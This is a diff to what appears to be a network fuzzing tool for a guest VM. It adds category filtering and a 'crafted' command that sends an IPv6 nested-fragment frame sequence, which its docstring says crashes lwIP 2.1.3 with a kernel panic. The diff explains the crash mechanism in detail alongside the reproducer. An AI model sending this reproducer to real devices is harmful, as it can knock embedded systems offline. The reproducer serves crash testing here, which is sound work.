@@ -270,8 +270,10 @@ def ipv4_header(rng, src, dst, proto, payload_len, ident=None, flags_frag=0, ihl
 
 
 class Generator:
-    def __init__(self, corpus, seed, max_frame, bcast_share=0.15):
+    def __init__(self, corpus, seed, max_frame, bcast_share=0.15, nested_frag6=True, only=None):
         self.c = corpus
+        self.weights = [w if not only or c in only else 0 for c, w in zip(CATEGORIES, WEIGHTS)]
+        self.nested_frag6 = nested_frag6
         self.rng = random.Random(seed)
         self.max_frame = max_frame
         self.bcast_share = bcast_share
@@ -601,9 +603,11 @@ class Generator:
         ident = r.choice(self.frag_ids) | 0x10000
         total = r.choice((16, 24, 100, 1000, 3000))
         data = bytearray(r.randbytes(total))
-        nh = r.choice((17, 17, 58, 6, 60, 44))
+        nh = r.choice((17, 17, 58, 6, 60, 44) if self.nested_frag6 else (17, 17, 58, 6, 60, 0))
         if nh == 17:
             data[0:8] = struct.pack("!HHHH", 40000, 9, total & 0xFFFF, 0)
+        elif nh in (0, 60) and not self.nested_frag6:
+            data[0] = r.choice((17, 59))  # the options header's own next header: never another fragment header
         step = r.choice((8, 16, 64, 512, 1232))
         pieces = [(o, min(step, total - o)) for o in range(0, total, step)]
         style = r.randrange(7)
@@ -678,7 +682,7 @@ class Generator:
         r = self.rng
         made = 0
         while made < count:
-            cat = r.choices(CATEGORIES, WEIGHTS)[0]
+            cat = r.choices(CATEGORIES, self.weights)[0]
             for f in self.gen[cat]():
                 if made >= count:
                     return
@@ -690,7 +694,8 @@ class Generator:
 
 def build(a):
     corpus = Corpus(a.guest_mac, a.host_mac, a.guest_ip, a.host_ip, random.Random(a.seed))
-    return Generator(corpus, a.seed, a.max_frame)
+    return Generator(corpus, a.seed, a.max_frame, nested_frag6=not a.no_nested_frag6,
+                     only=a.only.split(",") if a.only else None)
 
 
 def cmd_describe(a):
@@ -798,6 +803,40 @@ def cmd_runts(a):
     return 0
 
 
+def crafted_nested_frag6(gm, hm):
+    """lwIP 2.1.3 crash: an IPv6 datagram in two fragments whose reassembled payload starts with another fragment
+    header. ip6_input() continues after ip6_reass() with a new local ip6hdr but leaves ip_data.current_ip6_header
+    pointing at the header of the last fragment received; the second ip6_reass() computes
+    hdrdiff = p->payload - ip6_current_header() across two different receive buffers. The 60 filler frames
+    between the fragments put the two fragments > 64 KiB apart in the driver's buffer pool (a fresh ring is
+    posted in descending address order), so hdrdiff > 0xFFFF: LWIP_ASSERT at ip6_frag.c:300 -> kernel panic.
+    (With the buffers the other way round, hdrdiff < 40 asserts at line 301.)"""
+    src, dst = link_local(hm), link_local(gm)
+    inner = struct.pack("!BBHI", 17, 0, (8 << 3) | 1, 99) + b"A" * 8  # fragment header (offset 8, M=1) + 8 bytes
+
+    def frag(off, m, data):
+        fh = struct.pack("!BBHI", 44, 0, (off // 8) << 3 | m, 0x1234)
+        return gm + hm + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, 8 + len(data), 44, 64) + src + dst + fh + data
+
+    filler = gm + hm + b"\x88\xb5" + bytes(46)  # an ethertype nobody handles: freed at once
+    return [frag(0, 1, inner[:8])] + [filler] * 60 + [frag(8, 0, inner[8:])]
+
+
+CRAFTED = {"nested-frag6": crafted_nested_frag6}
+
+
+def cmd_crafted(a):
+    hm = a.host_mac or iface_mac(a.iface)
+    frames = CRAFTED[a.name](a.guest_mac, hm)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+    s.bind((a.iface, 0))
+    for f in frames:
+        s.send(f)
+    s.close()
+    print(json.dumps({"mode": "crafted", "name": a.name, "sent": len(frames)}), flush=True)
+    return 0
+
+
 def bounded(kind, lo, hi):
     def conv(s):
         v = kind(s)
@@ -818,6 +857,10 @@ def main(argv=None):
     common.add_argument("--seed", type=int, default=1)
     common.add_argument("--max-frame", type=bounded(int, 60, 65535), default=65535,
                         help="largest frame (bytes without FCS); send caps it at the interface's MTU + 14")
+    common.add_argument("--only", help="comma-separated categories to generate (default: all)")
+    common.add_argument("--no-nested-frag6", action="store_true",
+                        help="no IPv6 fragment train whose reassembled payload starts with another fragment "
+                             "header (lwIP 2.1.3 asserts on it: see the `crafted nested-frag6` command)")
     ps = sub.add_parser("send", parents=[common], help="generate and send COUNT frames out of IFACE")
     ps.add_argument("--iface", default="tap0")
     ps.add_argument("--host-mac", type=parse_mac, help="source MAC (default: the interface's own)")
@@ -831,8 +874,15 @@ def main(argv=None):
     pr.add_argument("--count", type=bounded(int, 1, 1_000_000), required=True)
     pr.add_argument("--seed", type=int, default=1)
     pr.add_argument("--rate", type=bounded(float, 0, 1_000_000), default=5000.0)
+    pc = sub.add_parser("crafted", help="send one crafted frame sequence (a known crash reproducer)")
+    pc.add_argument("--name", choices=sorted(CRAFTED), required=True)
+    pc.add_argument("--iface", default="tap0")
+    pc.add_argument("--guest-mac", type=parse_mac, default=parse_mac("52:54:00:12:34:56"))
+    pc.add_argument("--host-mac", type=parse_mac)
     a = p.parse_args(argv)
-    return {"send": cmd_send, "describe": cmd_describe, "runts": cmd_runts}[a.mode](a)
+    if getattr(a, "only", None) and not set(a.only.split(",")) <= set(CATEGORIES):
+        p.error(f"--only: categories are {', '.join(CATEGORIES)}")
+    return {"send": cmd_send, "describe": cmd_describe, "runts": cmd_runts, "crafted": cmd_crafted}[a.mode](a)
 
 
 if __name__ == "__main__":
